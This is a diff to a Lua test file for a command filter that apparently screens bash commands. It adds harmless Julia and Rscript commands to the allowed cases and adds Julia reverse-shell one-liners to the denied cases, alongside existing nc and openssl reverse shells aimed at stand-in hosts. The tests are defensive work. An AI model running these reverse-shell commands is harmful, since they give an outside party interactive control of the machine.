@@ -605,13 +605,18 @@ for _, line in ipairs({ "btrfs check /dev/vdb", "btrfs filesystem show", "btrfs 
   "diskutil list", "diskutil info disk0", "log show --last 5m", "log stream --level debug",
   "osascript -e 'display notification \"build done\"'", "osascript -e 'tell application \"Finder\" to open POSIX file \"/var/log/system.log\"'",
   "sysrc nginx_enable=YES", "sysrc -a", "mdatp health", "mdatp config real-time-protection --value enabled",
-  "pfctl -s rules", "pfctl -nf /etc/pf.conf", "service syslogd status" }) do
+  "pfctl -s rules", "pfctl -nf /etc/pf.conf", "service syslogd status",
+  [[julia -e 'using Sockets; s = connect("localhost", 8080); println(readline(s))']], [[julia -e 'run(`make test`)']],
+  [[Rscript -e 'install.packages("x", repos = NULL)']] }) do
   test("allows " .. line, function() passes(bash(line)) end)
 end
 
 -- reverse shells: an interactive shell reading a fifo, piped to a TLS client
 for _, line in ipairs({ "mkfifo /tmp/q; sh -i < /tmp/q 2>&1 | openssl s_client -quiet -connect 198.51.100.4:443 > /tmp/q",
-  "bash -i < /tmp/f 2>&1 | nc 198.51.100.4 9001 > /tmp/f" }) do
+  "bash -i < /tmp/f 2>&1 | nc 198.51.100.4 9001 > /tmp/f",
+  -- Julia runs a command with run(`…`): a socket read into it is a shell on the wire
+  [[julia -e 'using Sockets; s = connect("198.51.100.4", 7001); while true; c = readline(s); run(pipeline(`sh -c $c`, stdout=s)); end']],
+  [[julia -E 'using Sockets; s = connect("h.example", 4444); for l in eachline(s) run(`bash -c $l`) end']] }) do
   test("reverse shell: " .. line, function() denied(bash(line), "reverse-shell") end)
 end
 
